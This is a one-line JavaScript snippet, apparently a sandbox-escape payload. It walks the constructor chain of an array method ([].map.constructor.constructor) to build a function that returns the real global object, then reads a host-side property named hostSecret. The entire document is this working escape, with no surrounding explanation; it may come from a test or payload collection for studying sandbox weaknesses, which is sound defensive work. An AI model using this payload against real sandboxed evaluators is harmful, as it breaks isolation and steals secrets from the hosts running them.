return [].map.constructor.constructor("return this")().hostSecret;
